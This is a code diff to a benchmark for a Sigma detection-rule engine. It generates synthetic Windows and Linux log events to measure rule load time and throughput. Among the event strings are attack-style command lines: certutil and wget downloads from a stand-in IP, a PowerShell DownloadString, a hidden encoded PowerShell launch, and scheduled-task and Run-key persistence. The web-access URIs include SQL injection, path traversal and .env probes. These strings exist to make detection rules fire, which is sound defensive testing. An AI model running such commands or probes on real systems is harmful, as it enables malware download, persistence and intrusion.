@@ -7,8 +7,10 @@
  * With -d DIR (repeatable; a rule tree such as a checkout of SigmaHQ's
  * rules) it loads those rules with the mappings (-m DIR, default
  * share/mappings), prints the load time and the memory the rules take,
- * and runs a mix of parsed events as Windows (Sysmon, Security) and
- * Linux hosts send them.
+ * and runs a mix of parsed events as Windows (Sysmon, Security,
+ * PowerShell) and Linux hosts (auditd, sshd, web access, syslog) send
+ * them (see mix_event).  Events/s are given by the thread's CPU time,
+ * which other load on the machine does not skew, and by the clock.
  *   build/bench_rules -d ~/sigma/rules -d ~/sigma/rules-emerging-threats \
  *       [-m share/mappings] [-n EVENTS] [-o EVENTS.ndjson]
  * -o also writes the events, for a side-by-side with another engine.
@@ -132,86 +134,336 @@ event(int i)
 	    "success", (int)(rnd() % 2));
 }
 
-static const char *const exes[] = {
-	"svchost.exe", "chrome.exe", "explorer.exe", "conhost.exe",
-	"cmd.exe", "powershell.exe", "rundll32.exe", "msiexec.exe",
-	"notepad.exe", "taskhostw.exe", "OneDrive.exe", "Teams.exe",
-	"backgroundTaskHost.exe", "WmiPrvSE.exe", "git.exe", "python.exe",
+/* The executables and command lines of the Windows events: what an
+   office and its servers run all day, a few admin and attack tools among
+   them (so some rules fire, as on a real network). */
+static const struct {
+	const char	*dir, *exe, *args;
+} procs_win[] = {
+	{ "C:\\Windows\\System32\\", "svchost.exe", "-k netsvcs -p -s Schedule" },
+	{ "C:\\Windows\\System32\\", "svchost.exe", "-k LocalServiceNetworkRestricted -p" },
+	{ "C:\\Program Files\\Google\\Chrome\\Application\\", "chrome.exe",
+	  "--type=renderer --lang=en-US --renderer-client-id=7" },
+	{ "C:\\Windows\\", "explorer.exe", "" },
+	{ "C:\\Windows\\System32\\", "conhost.exe", "0xffffffff -ForceV1" },
+	{ "C:\\Windows\\System32\\", "cmd.exe", "/c echo build && nmake all" },
+	{ "C:\\Windows\\System32\\", "cmd.exe", "/c whoami /all" },
+	{ "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\", "powershell.exe",
+	  "-NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1" },
+	{ "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\", "powershell.exe",
+	  "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" },
+	{ "C:\\Windows\\System32\\", "rundll32.exe",
+	  "shell32.dll,Control_RunDLL desk.cpl" },
+	{ "C:\\Windows\\System32\\", "msiexec.exe", "/i C:\\Temp\\agent.msi /qn" },
+	{ "C:\\Windows\\System32\\", "notepad.exe", "C:\\Users\\u1\\notes.txt" },
+	{ "C:\\Windows\\System32\\", "taskhostw.exe", "" },
+	{ "C:\\Users\\u1\\AppData\\Local\\Microsoft\\OneDrive\\", "OneDrive.exe",
+	  "/background" },
+	{ "C:\\Users\\u1\\AppData\\Local\\Microsoft\\Teams\\current\\",
+	  "Teams.exe", "--process-start-args --system-initiated" },
+	{ "C:\\Windows\\System32\\", "backgroundTaskHost.exe",
+	  "-ServerName:App.AppXmtcan0h2tfbfy7k9kmh4tdyh3gakdrvt.mca" },
+	{ "C:\\Windows\\System32\\wbem\\", "WmiPrvSE.exe", "-Embedding" },
+	{ "C:\\Program Files\\Git\\cmd\\", "git.exe", "status --porcelain" },
+	{ "C:\\Python311\\", "python.exe", "-m pip list" },
+	{ "C:\\Windows\\System32\\", "schtasks.exe",
+	  "/create /tn Updater /tr C:\\Users\\Public\\upd.exe /sc minute" },
+	{ "C:\\Windows\\System32\\", "reg.exe",
+	  "query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" },
+	{ "C:\\Windows\\System32\\", "net.exe", "user /domain" },
+	{ "C:\\Windows\\System32\\", "certutil.exe",
+	  "-urlcache -split -f http://198.51.100.9/a.txt a.exe" },
+	{ "C:\\Windows\\System32\\", "wevtutil.exe", "qe Security /c:5" },
+	{ "C:\\Program Files\\Microsoft Office\\root\\Office16\\", "WINWORD.EXE",
+	  "/n C:\\Users\\u1\\Documents\\report.docx" },
+	{ "C:\\Windows\\System32\\", "SearchProtocolHost.exe",
+	  "Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1" },
+	{ "C:\\Windows\\System32\\", "dllhost.exe",
+	  "/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}" },
+	{ "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\", "csc.exe",
+	  "/noconfig /fullpaths @\"C:\\Users\\u1\\AppData\\Local\\Temp\\x.cmdline\"" },
 };
-#define NEXES	(sizeof(exes) / sizeof(*exes))
+#define NPROCS_WIN	(sizeof(procs_win) / sizeof(*procs_win))
 
-static const char *const args[] = {
-	"-k netsvcs -p", "--type=renderer --lang=en-US", "/c echo build",
-	"-NoProfile -File C:\\scripts\\inventory.ps1", "/S /v/qn",
-	"shell32.dll,Control_RunDLL", "status --porcelain", "-m pip list",
-	"C:\\Users\\u1\\notes.txt", "/background",
+static const char *const parents_win[] = {
+	"C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\services.exe",
+	"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\cmd.exe",
+	"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
 };
-#define NARGS	(sizeof(args) / sizeof(*args))
+#define NPARENTS_WIN	(sizeof(parents_win) / sizeof(*parents_win))
 
-/* A parsed event of the mix: Sysmon process creation (40 %), network
-   (10 %), file (10 %), registry (10 %), Security logons (10 %), Linux
-   sshd and syslog (20 %); each as the canonical Windows shape (EventData
-   flat under details) or MozDef's. */
+static const char *const files_win[] = {
+	"C:\\Users\\u1\\AppData\\Local\\Temp\\tmp1234.tmp",
+	"C:\\Users\\u1\\Downloads\\invoice.pdf",
+	"C:\\Windows\\Prefetch\\CHROME.EXE-5C3E6B2A.pf",
+	"C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache.bin",
+	"C:\\Users\\u1\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\"
+	    "Programs\\Startup\\upd.lnk",
+};
+#define NFILES_WIN	(sizeof(files_win) / sizeof(*files_win))
+
+static const char *const regkeys[] = {
+	"HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming",
+	"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\"
+	    "S-1-5-21-1\\\\Device\\HarddiskVolume3\\Windows\\explorer.exe",
+	"HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\"
+	    "Explorer\\RecentDocs\\.docx",
+	"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
+};
+#define NREGKEYS	(sizeof(regkeys) / sizeof(*regkeys))
+
+static const char *const dlls[] = {
+	"C:\\Windows\\System32\\kernel32.dll", "C:\\Windows\\System32\\ntdll.dll",
+	"C:\\Windows\\System32\\wininet.dll", "C:\\Windows\\System32\\amsi.dll",
+	"C:\\Windows\\System32\\clr.dll",
+};
+#define NDLLS	(sizeof(dlls) / sizeof(*dlls))
+
+static const char *const scripts[] = {
+	"Get-ChildItem -Path C:\\Logs -Filter *.log | Remove-Item",
+	"Import-Module ActiveDirectory; Get-ADUser -Filter *",
+	"$s = New-Object Net.WebClient; $s.DownloadString('http://198.51.100.9/a')",
+	"Get-Service | Where-Object Status -eq Running",
+};
+#define NSCRIPTS	(sizeof(scripts) / sizeof(*scripts))
+
+static const struct {
+	const char	*exe, *comm, *args;
+} procs_lin[] = {
+	{ "/usr/bin/ls", "ls", "ls -la /var/log" },
+	{ "/usr/bin/bash", "bash", "bash -c /opt/app/healthcheck.sh" },
+	{ "/usr/bin/python3.11", "python3", "python3 /opt/app/worker.py --queue jobs" },
+	{ "/usr/bin/curl", "curl", "curl -s http://10.0.0.5/status" },
+	{ "/usr/sbin/useradd", "useradd", "useradd -m deploy2" },
+	{ "/usr/bin/wget", "wget", "wget -q http://198.51.100.9/x.sh -O /tmp/x.sh" },
+	{ "/usr/bin/systemctl", "systemctl", "systemctl restart nginx" },
+	{ "/usr/bin/crontab", "crontab", "crontab -l" },
+	{ "/usr/bin/id", "id", "id" },
+};
+#define NPROCS_LIN	(sizeof(procs_lin) / sizeof(*procs_lin))
+
+static const char *const uris[] = {
+	"/index.html", "/api/v1/orders?page=2", "/static/app.js",
+	"/login", "/wp-login.php", "/.env", "/api/v1/users/42",
+	"/search?q=%27%20OR%201%3D1--", "/cgi-bin/../../etc/passwd",
+	"/images/logo.png",
+};
+#define NURIS	(sizeof(uris) / sizeof(*uris))
+
+static const char *const agents[] = {
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+	    "(KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+	"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
+	"curl/8.5.0", "python-requests/2.31.0", "sqlmap/1.7.2#stable",
+};
+#define NAGENTS	(sizeof(agents) / sizeof(*agents))
+
+#define SYSMON	"Microsoft-Windows-Sysmon/Operational"
+
+/* A Windows event as NXLog or the Windows parser leave it: the EventData
+   flat under details. */
+static json_t *
+win_event(const char *ts, const char *host, int id, const char *channel,
+    const char *provider, const char *summary)
+{
+	return json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:{s:i, s:s}}",
+	    "utctimestamp", ts, "receivedtimestamp", ts, "hostname", host,
+	    "processname", provider, "category", "windows", "summary", summary,
+	    "details", "EventID", id, "Channel", channel);
+}
+
+static void
+set(json_t *ev, const char *k, json_t *v)
+{
+	json_object_set_new(json_object_get(ev, "details"), k, v);
+}
+
+/*
+ * A parsed event of the mix, two thirds Windows and one third Linux:
+ * Sysmon process creation 20 %, Security 4688 5 %, Sysmon network 10 %,
+ * file 5 %, registry 10 %, image load 5 %, Security logons 5 %,
+ * PowerShell script blocks 5 %; auditd 10 %, sshd 10 %, web access
+ * 10 %, other syslog 5 %.  The Windows ones as NXLog ships them
+ * (EventData flat under details), the Linux ones as ward's parsers
+ * leave them.
+ */
 static json_t *
 mix_event(int i)
 {
-	char ts[40], img[128], cmd[256], host[32], user[32], ip[32];
-	const char *exe = exes[rnd() % NEXES];
-	const char *sysmon = "Microsoft-Windows-Sysmon/Operational";
-	unsigned k = rnd() % 10;
+	char ts[40], img[256], cmd[512], host[32], user[32], ip[32], txt[512];
+	unsigned k = rnd() % 20, p = rnd() % NPROCS_WIN;
+	const char *parent = parents_win[rnd() % NPARENTS_WIN];
+	json_t *ev;
 
 	snprintf(ts, sizeof(ts), "2026-11-27T10:%02d:%02d.%06dZ",
 	    (i / 60) % 60, i % 60, i % 1000000);
-	snprintf(img, sizeof(img), "C:\\Windows\\System32\\%s", exe);
-	snprintf(cmd, sizeof(cmd), "\"%s\" %s", img, args[rnd() % NARGS]);
+	snprintf(img, sizeof(img), "%s%s", procs_win[p].dir, procs_win[p].exe);
+	snprintf(cmd, sizeof(cmd), "\"%s\" %s", img, procs_win[p].args);
 	snprintf(host, sizeof(host), "ws%u.corp.example", rnd() % 500);
 	snprintf(user, sizeof(user), "CORP\\u%u", rnd() % 2000);
 	snprintf(ip, sizeof(ip), "10.%u.%u.%u", rnd() % 256, rnd() % 256,
 	    rnd() % 256);
-	if (k < 4)
-		return json_pack("{s:s, s:s, s:s, s:s, s:s, s:{s:i, s:s, s:s, "
-		    "s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s}}",
-		    "utctimestamp", ts, "receivedtimestamp", ts, "hostname",
-		    host, "processname", "Microsoft-Windows-Sysmon", "summary",
-		    "Process Create", "details", "EventID", 1, "Channel", sysmon,
-		    "Image", img, "CommandLine", cmd, "ParentImage",
-		    "C:\\Windows\\explorer.exe", "ParentCommandLine",
-		    "C:\\Windows\\Explorer.EXE", "User", user,
-		    "IntegrityLevel", "Medium", "OriginalFileName", exe,
-		    "CurrentDirectory", "C:\\Users\\u1\\", "Hashes",
-		    "SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15"
-		    "D6C15B0F00A08");
-	if (k == 4)
-		return json_pack("{s:s, s:s, s:s, s:s, s:{s:i, s:s, s:s, s:s, "
-		    "s:i, s:s, s:s}}", "utctimestamp", ts, "receivedtimestamp",
-		    ts, "hostname", host, "processname",
-		    "Microsoft-Windows-Sysmon", "details", "EventID", 3,
-		    "Channel", sysmon, "Image", img, "DestinationIp", ip,
-		    "DestinationPort", (int)(rnd() % 2 ? 443 : 80), "Protocol",
-		    "tcp", "User", user);
-	if (k == 5)
-		return json_pack("{s:s, s:s, s:s, s:s, s:{s:i, s:s, s:s, s:s}}",
-		    "utctimestamp", ts, "receivedtimestamp", ts, "hostname",
-		    host, "processname", "Microsoft-Windows-Sysmon", "details",
-		    "EventID", 11, "Channel", sysmon, "Image", img,
-		    "TargetFilename", "C:\\Users\\u1\\AppData\\Local\\"
-		    "Temp\\tmp1234.tmp");
-	if (k == 6)
-		return json_pack("{s:s, s:s, s:s, s:s, s:{s:i, s:s, s:s, s:s, "
-		    "s:s, s:s}}", "utctimestamp", ts, "receivedtimestamp", ts,
-		    "hostname", host, "processname", "Microsoft-Windows-Sysmon",
-		    "details", "EventID", 13, "Channel", sysmon, "EventType",
-		    "SetValue", "Image", img, "TargetObject",
-		    "HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\"
-		    "Common\\Roaming", "Details", "DWORD (0x00000001)");
-	if (k == 7)
-		return json_pack("{s:s, s:s, s:s, s:s, s:{s:i, s:s, s:s, s:s, "
-		    "s:i, s:s}}", "utctimestamp", ts, "receivedtimestamp", ts,
-		    "hostname", "dc1.corp.example", "processname",
-		    "Microsoft-Windows-Security-Auditing", "details", "EventID",
-		    rnd() % 4 ? 4624 : 4625, "Channel", "Security",
-		    "TargetUserName", user + 5, "IpAddress", ip, "LogonType",
-		    (int)(rnd() % 2 ? 3 : 10), "WorkstationName", host);
+	if (k < 4) {
+		ev = win_event(ts, host, 1, SYSMON, "Microsoft-Windows-Sysmon",
+		    "Process Create");
+		set(ev, "Image", json_string(img));
+		set(ev, "CommandLine", json_string(cmd));
+		set(ev, "ParentImage", json_string(parent));
+		set(ev, "ParentCommandLine", json_string(parent));
+		set(ev, "User", json_string(user));
+		set(ev, "IntegrityLevel", json_string(rnd() % 4 ? "Medium" :
+		    "High"));
+		set(ev, "OriginalFileName", json_string(procs_win[p].exe));
+		set(ev, "Product", json_string("Microsoft® Windows® Operating "
+		    "System"));
+		set(ev, "Company", json_string("Microsoft Corporation"));
+		set(ev, "CurrentDirectory", json_string("C:\\Users\\u1\\"));
+		set(ev, "LogonId", json_string("0x3e7"));
+		set(ev, "ProcessId", json_integer(rnd() % 65536));
+		set(ev, "Hashes", json_string("SHA256=9F86D081884C7D659A2FEAA0C5"
+		    "5AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577"
+		    "ED6D9CEEC516C1F5A744"));
+		return ev;
+	}
+	if (k == 4) {
+		ev = win_event(ts, host, 4688, "Security",
+		    "Microsoft-Windows-Security-Auditing", "A new process has "
+		    "been created.");
+		set(ev, "NewProcessName", json_string(img));
+		set(ev, "CommandLine", json_string(cmd));
+		set(ev, "ParentProcessName", json_string(parent));
+		set(ev, "SubjectUserName", json_string(user + 5));
+		set(ev, "SubjectDomainName", json_string("CORP"));
+		set(ev, "TokenElevationType", json_string("%%1936"));
+		set(ev, "MandatoryLabel", json_string("S-1-16-8192"));
+		return ev;
+	}
+	if (k < 7) {
+		ev = win_event(ts, host, 3, SYSMON, "Microsoft-Windows-Sysmon",
+		    "Network connection detected");
+		set(ev, "Image", json_string(img));
+		set(ev, "User", json_string(user));
+		set(ev, "Protocol", json_string("tcp"));
+		set(ev, "Initiated", json_string("true"));
+		set(ev, "SourceIp", json_string("10.1.2.3"));
+		set(ev, "SourcePort", json_integer(49152 + rnd() % 16000));
+		set(ev, "DestinationIp", json_string(ip));
+		set(ev, "DestinationHostname", json_string("svc.corp.example"));
+		set(ev, "DestinationPort", json_integer(rnd() % 2 ? 443 : 80));
+		return ev;
+	}
+	if (k == 7) {
+		ev = win_event(ts, host, 11, SYSMON, "Microsoft-Windows-Sysmon",
+		    "File created");
+		set(ev, "Image", json_string(img));
+		set(ev, "TargetFilename", json_string(files_win[rnd() %
+		    NFILES_WIN]));
+		set(ev, "User", json_string(user));
+		return ev;
+	}
+	if (k < 10) {
+		ev = win_event(ts, host, 13, SYSMON, "Microsoft-Windows-Sysmon",
+		    "Registry value set");
+		set(ev, "EventType", json_string("SetValue"));
+		set(ev, "Image", json_string(img));
+		set(ev, "TargetObject", json_string(regkeys[rnd() % NREGKEYS]));
+		set(ev, "Details", json_string(rnd() % 2 ? "DWORD (0x00000001)" :
+		    "C:\\Users\\Public\\upd.exe"));
+		set(ev, "User", json_string(user));
+		return ev;
+	}
+	if (k == 10) {
+		ev = win_event(ts, host, 7, SYSMON, "Microsoft-Windows-Sysmon",
+		    "Image loaded");
+		set(ev, "Image", json_string(img));
+		set(ev, "ImageLoaded", json_string(dlls[rnd() % NDLLS]));
+		set(ev, "Signed", json_string("true"));
+		set(ev, "Signature", json_string("Microsoft Windows"));
+		set(ev, "SignatureStatus", json_string("Valid"));
+		set(ev, "Hashes", json_string("SHA256=2C26B46B68FFC68FF99B453C1D"
+		    "30413413422D706483BFA0F98A5E886266E7AE"));
+		return ev;
+	}
+	if (k == 11) {
+		ev = win_event(ts, "dc1.corp.example", rnd() % 4 ? 4624 : 4625,
+		    "Security", "Microsoft-Windows-Security-Auditing",
+		    "An account was successfully logged on.");
+		set(ev, "TargetUserName", json_string(user + 5));
+		set(ev, "TargetDomainName", json_string("CORP"));
+		set(ev, "IpAddress", json_string(ip));
+		set(ev, "LogonType", json_integer(rnd() % 2 ? 3 : 10));
+		set(ev, "LogonProcessName", json_string("NtLmSsp"));
+		set(ev, "AuthenticationPackageName", json_string("NTLM"));
+		set(ev, "WorkstationName", json_string(host));
+		return ev;
+	}
+	if (k == 12) {
+		ev = win_event(ts, host, 4104,
+		    "Microsoft-Windows-PowerShell/Operational",
+		    "Microsoft-Windows-PowerShell", "Creating Scriptblock text");
+		set(ev, "ScriptBlockText", json_string(scripts[rnd() %
+		    NSCRIPTS]));
+		set(ev, "ScriptBlockId", json_string("5f1c9d2e-0a4b-4c1e-9a61-"
+		    "2b9f3c7d8e01"));
+		set(ev, "Path", json_string(""));
+		return ev;
+	}
+	p = rnd() % NPROCS_LIN;
+	snprintf(host, sizeof(host), "srv%u.corp.example", rnd() % 100);
+	if (k < 15) {		/* auditd: an EXECVE record, or a SYSCALL */
+		snprintf(txt, sizeof(txt), "type=%s msg=audit(1764237600.%03u:"
+		    "%u): ...", k == 13 ? "EXECVE" : "SYSCALL", rnd() % 1000,
+		    rnd());
+		ev = json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:{s:s, s:s, "
+		    "s:s, s:s, s:s, s:s}}", "utctimestamp", ts,
+		    "receivedtimestamp", ts, "hostname", host, "processname",
+		    "auditd", "category", "audit", "summary", txt, "details",
+		    "type", k == 13 ? "EXECVE" : "SYSCALL", "exe",
+		    procs_lin[p].exe, "comm", procs_lin[p].comm, "auid", "1000",
+		    "uid", "0", "key", rnd() % 2 ? "exec" : "susp_activity");
+		if (k == 13) {
+			set(ev, "a0", json_string(procs_lin[p].comm));
+			set(ev, "a1", json_string("-la"));
+			set(ev, "argc", json_string("2"));
+			set(ev, "command", json_string(procs_lin[p].args));
+		} else {
+			set(ev, "syscall", json_string("59"));
+			set(ev, "success", json_string("yes"));
+			set(ev, "pid", json_string("4242"));
+		}
+		return ev;
+	}
+	if (k < 17) {		/* sshd */
+		int ok = rnd() % 3 != 0;
+
+		snprintf(txt, sizeof(txt), "%s password for %s from %s port %u "
+		    "ssh2", ok ? "Accepted" : "Failed", user + 5, ip,
+		    1024 + rnd() % 60000);
+		return json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:[s], s:{s:s, "
+		    "s:s, s:s, s:s, s:i, s:b}}", "utctimestamp", ts,
+		    "receivedtimestamp", ts, "hostname", host, "processname",
+		    "sshd", "category", "authentication", "summary", txt,
+		    "tags", "sshd", "details", "authstatus", ok ? "Accepted" :
+		    "Failed", "authmethod", "password", "username", user + 5,
+		    "sourceipaddress", ip, "sourceport", (int)(1024 + rnd() %
+		    60000), "success", ok);
+	}
+	if (k < 19) {		/* web access */
+		const char *uri = uris[rnd() % NURIS], *ua = agents[rnd() %
+		    NAGENTS];
+		int st = rnd() % 5 ? 200 : 404;
+
+		snprintf(txt, sizeof(txt), "%s - - [27/Nov/2026:10:00:00 +0000] "
+		    "\"GET %s HTTP/1.1\" %d 512 \"-\" \"%s\"", ip, uri, st, ua);
+		return json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:[s], s:{s:s, "
+		    "s:s, s:s, s:s, s:s, s:i, s:i, s:s, s:s}}", "utctimestamp",
+		    ts, "receivedtimestamp", ts, "hostname", host,
+		    "processname", "nginx", "category", "web", "summary", txt,
+		    "tags", "http", "details", "sourceipaddress", ip, "username",
+		    "-", "method", "GET", "uri", uri, "protocol", "HTTP/1.1",
+		    "status", st, "bytes", 512, "referrer", "-", "useragent",
+		    ua);
+	}
 	return event(i);
 }
 
@@ -235,6 +487,17 @@ now_s(void)
 	struct timespec ts;
 
 	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+/* This thread's CPU time: robust to other load on the machine, where the
+   wall clock is not. */
+static double
+cpu_s(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
 	return ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
@@ -262,7 +525,7 @@ tree(const char **dirs, size_t ndirs, const char *maps, int nevents,
 	struct correlator *c;
 	json_t **evs;
 	size_t nerr = 0, matches = 0, before, i, np = 0;
-	double t0, t1;
+	double t0, t1, c0, c1;
 	FILE *f = NULL;
 	int k;
 
@@ -271,12 +534,15 @@ tree(const char **dirs, size_t ndirs, const char *maps, int nevents,
 		paths[np++] = dirs[i];
 	before = rss_kb();
 	t0 = now_s();
+	c0 = cpu_s();
 	rs = ruleset_load(paths, np, show_error, &nerr, &nerr);
+	c1 = cpu_s();
 	t1 = now_s();
 	if (rs == NULL)
 		return 1;
-	printf("rules: %zu loaded, %zu refused, in %.0f ms; %.1f MB RSS for "
-	    "the rules\n", ruleset_count(rs), nerr, (t1 - t0) * 1e3,
+	printf("rules: %zu loaded, %zu refused, in %.0f ms (%.0f ms CPU); "
+	    "%.1f MB RSS for the rules\n", ruleset_count(rs), nerr,
+	    (t1 - t0) * 1e3, (c1 - c0) * 1e3,
 	    (double)(rss_kb() - before) / 1024);
 	printf("index: %zu rules anchored, %zu tried on every event\n",
 	    rs->nanchored, rs->nalways);
@@ -300,12 +566,15 @@ tree(const char **dirs, size_t ndirs, const char *maps, int nevents,
 		correlator_feed(c, evs[k], k, 0, count_cb, &matches);
 	matches = 0;
 	t0 = now_s();
+	c0 = cpu_s();
 	for (k = 0; k < nevents; k++)
 		correlator_feed(c, evs[k], k, 0, count_cb, &matches);
+	c1 = cpu_s();
 	t1 = now_s();
 	printf("events (Windows and Linux mix): %d, matches: %zu, %.0f "
-	    "events/s (%.2f us/event)\n", nevents, matches,
-	    nevents / (t1 - t0), (t1 - t0) * 1e6 / nevents);
+	    "events/s by CPU time (%.2f us/event), %.0f by the clock\n",
+	    nevents, matches, nevents / (c1 - c0), (c1 - c0) * 1e6 / nevents,
+	    nevents / (t1 - t0));
 	for (k = 0; k < nevents; k++)
 		json_decref(evs[k]);
 	free(evs);
